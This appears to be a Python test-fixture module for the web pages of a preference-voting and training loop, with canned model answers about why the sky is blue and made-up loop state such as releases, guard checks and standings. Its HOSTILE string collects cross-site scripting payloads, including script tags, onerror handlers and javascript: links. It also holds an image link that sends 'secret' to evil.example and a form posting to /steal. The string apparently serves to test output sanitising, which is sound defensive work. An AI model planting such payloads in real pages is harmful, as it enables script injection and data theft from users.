"""What the pages are shown in the tests: answers and a state of the loop."""

from __future__ import annotations

from typing import Any

from serve.engines.base import GenerationRequest

HOSTILE = """Hello <img src=x onerror="window.hacked = 1"> <script>window.hacked = 1</script>

<svg onload="window.hacked = 1"></svg><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>

[click me](javascript:window.hacked=1), [data](data:text/html,<script>window.hacked=1</script>), [fine](https://example.org/)

![stolen](https://evil.example/?q=secret) <a href="javascript:window.hacked=1" onclick="window.hacked = 1">raw</a>

<style>body { display: none }</style>

| <img src=x onerror=window.hacked=1> | b |
|---|---|
| 1 | <form action="/steal"><input name=x></form> |

```html
<script>window.hacked = 1</script>
```
"""
SUNLIGHT = (
    "Sunlight is a mix of all colours. In the air it meets molecules that are far smaller than its waves, and "
    "**short waves are scattered much more than long ones**.\n\n"
    "- Blue light is scattered about *four times* as strongly as red.\n"
    "- So blue reaches your eye from everywhere: the sky.\n"
    "- At sunset the light crosses far more air. Most of the blue is gone by then, and red is what is left."
)
RAYLEIGH = (
    "The sky is blue because of **Rayleigh scattering**: its strength goes with the inverse fourth power of the "
    "wavelength.\n\n"
    "1. Blue has a wavelength of about 450 nm, red of about 700 nm.\n"
    "2. The ratio is `(700 / 450) ** 4`, nearly six.\n\n"
    "At sunset the path through the air is some forty times longer, so what arrives is mostly red."
)
LONG = "\n\n".join(f"Paragraph {number}. " + "Many words follow here. " * 8 for number in range(14))


def answer(request: GenerationRequest, index: int) -> str:
    """Steered by the last question: `hostile` attacks, `long` is long, all else speaks of the sky."""
    question = bytes(request.prompt_token_ids).decode().rpartition("<user>")[2]
    if "hostile" in question:
        return HOSTILE
    if "long" in question:
        return LONG
    return SUNLIGHT if index == 0 and request.adapter is None else RAYLEIGH


def _release(number: int, state: str, reason: str, actor: str = "auto") -> dict[str, Any]:
    return {
        "name": f"policy-00000{number}",
        "state": state,
        "reason": reason,
        "actor": actor,
        "updated_at": f"2026-11-21T{7 + number:02}:00:00Z",
        "parent": f"policy-00000{number - 1}" if number > 1 else None,
        "metrics": {"reward": 0.2 * number, "policy_kl": 3.0 + number, "reward_win_rate": 0.5 + 0.03 * number},
    }


def _cycle(number: int, reward: float, kl: float, win_rate: float) -> dict[str, Any]:
    return {
        "cycle": number,
        "adapter": f"policy-00000{number}",
        "reward": reward,
        "kl": kl,
        "win_rate": win_rate,
        "outcome": "published",
        "reason": None,
        "report": number > 1,
        "finished_at": f"2026-11-21T{7 + number:02}:00:00Z",
    }


def _contest(number: int, opponent: int, *, votes: int, wins: int, losses: int, lower: float, upper: float) -> Any:
    return {
        "adapter": f"policy-00000{number}",
        "opponent": f"policy-00000{opponent}",
        "since": "2026-11-21T11:45:00Z",
        "votes": votes,
        "voters": votes // 2,
        "ballots": votes // 3,
        "wins": wins,
        "losses": losses,
        "ties": votes - wins - losses,
        "both_bad": 0,
        "left_share": 0.52,
        "win_rate": (lower + upper) / 2,
        "lower": lower,
        "upper": upper,
        "evidence": 0.61,
        "guards": [],
    }


LOOP: dict[str, Any] = {
    "now": "2026-11-21T12:00:00Z",
    "base_model": "SmolLM2-135M-Instruct",
    "chat": {"conversations": 41, "pairs": 1212, "running": 2, "waiting": 0},
    "votes": {"total": 1090, "a": 480, "b": 474, "tie": 106, "both_bad": 30, "per_minute": 12.5},
    "outbox": {"pending": 0, "unconfirmed": 3, "oldest_pending_age_s": 0.0},
    "dataset": {"snapshot": "3fa9c01d77aa", "votes": 1087, "decisive": 951, "new": 23, "needed": 64},
    "training": {"phase": "ppo", "cycle": 5, "step": 4, "steps": 6, "progress": 0.66, "eta_s": 95, "message": "KL 6.2"},
    "office": {"adapter": "policy-000003", "since": "2026-11-21T11:41:00Z"},
    "releases": [
        _release(4, "canary", "probe passed; voters decide"),
        _release(3, "in_office", "won 63% of 118 votes"),
        _release(2, "retired", "followed by policy-000003"),
        _release(1, "rejected", "answers twice as long as the office-holder's", "operator"),
    ],
    "gate": {"mode": "votes", "paused": False},
    "canary": _contest(4, 3, votes=118, wins=61, losses=42, lower=0.482, upper=0.648)
    | {
        "guards": [
            {"guard": "length", "value": 1.12, "limit": 2.0, "vetoes": False},
            {"guard": "refusals", "value": -0.02, "limit": 0.1, "vetoes": False},
            {"guard": "repetition", "value": 0.03, "limit": 0.1, "vetoes": False},
            {"guard": "kl", "value": 7.2, "limit": 15.0, "vetoes": False},
            {"guard": "errors", "value": None, "limit": 0.05, "vetoes": False},
            {"guard": "both_bad", "value": 0.034, "limit": 0.5, "vetoes": False},
        ]
    },
    "alarm": _contest(3, 2, votes=44, wins=22, losses=17, lower=0.37, upper=0.72),
    "cycles": [
        _cycle(1, 0.21, 9.1, 0.47),
        _cycle(2, 0.34, 6.4, 0.58),
        _cycle(3, 0.52, 7.2, 0.63),
        _cycle(4, 0.61, 6.1, 0.66),
    ],
}

STANDINGS: dict[str, Any] = {
    "contenders": [
        {
            "contender": "policy-000002",
            "rank": 1,
            "wins": 61,
            "losses": 33,
            "ties": 12,
            "both_bad": 3,
            "votes": 109,
            "win_rate": 0.6284,
            "strength": 0.31,
            "interval": [0.12, 0.52],
            "controlled": 0.27,
            "controlled_interval": [0.08, 0.49],
        },
        {
            "contender": "base",
            "rank": 2,
            "wins": 33,
            "losses": 61,
            "ties": 12,
            "both_bad": 3,
            "votes": 109,
            "win_rate": 0.3716,
            "strength": -0.31,
            "interval": [-0.52, -0.12],
            "controlled": -0.27,
            "controlled_interval": [-0.49, -0.08],
        },
    ],
    "votes": 109,
    "voters": 23,
    "planted": 6,
    "leaking": 1,
    "position_bias": 0.11,
    "position_bias_interval": [-0.2, 0.4],
    "length_effect": 0.8,
    "length_effect_interval": [0.1, 1.6],
    "left_share": 0.53,
    "left_share_interval": [0.44, 0.61],
}
